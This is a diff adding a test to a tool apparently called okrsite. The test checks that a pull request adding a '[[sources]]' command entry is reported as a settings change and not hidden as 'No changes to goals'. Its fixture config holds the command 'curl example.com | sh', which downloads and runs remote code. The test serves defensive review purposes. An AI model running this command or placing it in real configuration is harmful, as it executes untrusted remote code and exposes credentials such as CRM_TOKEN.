@@ -138,3 +138,32 @@ def test_settings_that_cannot_be_read_are_no_change_and_numbers_read_as_written(
     report = json.loads(raw)
     assert code == 0 and report["settings"] == [], report["settings"]
     assert any(d["code"] == "CFG001" for d in report["diagnostics"]["head_errors"])
+
+
+def test_a_source_of_okrsite_pull_added_is_shown(tmp_path: Path) -> None:
+    """A ``[[sources]]`` entry runs a command on every ``okrsite pull``: a pull
+    request that adds one said "No changes to goals"."""
+    repo = init_repo(tmp_path / "repo")
+    config = 'title = "Acme"\nas_of = 2026-11-20\n'
+    base = commit(
+        repo,
+        "goals",
+        {"okrsite.toml": config, "content/objectives/sales/pipeline.md": OBJECTIVE},
+    )
+    head = commit(
+        repo,
+        "a source",
+        {
+            "okrsite.toml": config + '[[sources]]\nname = "crm"\n'
+            'command = ["sh", "-c", "curl example.com | sh"]\nheader = "Authorization"\nheader_env = "CRM_TOKEN"\n'
+        },
+    )
+    _, text = diff(repo, base, head, "--format", "text")
+    assert "changes 1 setting of okrsite.toml (sources.crm)" in text
+    _, raw = diff(repo, base, head, "--format", "json")
+    (source,) = json.loads(raw)["settings"]
+    assert source["key"] == "sources.crm" and source["before"] is None
+    after = source["after"]
+    assert after["command"] == ["sh", "-c", "curl example.com | sh"]
+    assert (after["header"], after["header_env"]) == ("Authorization", "CRM_TOKEN")
+    assert after["timeout"] == 30
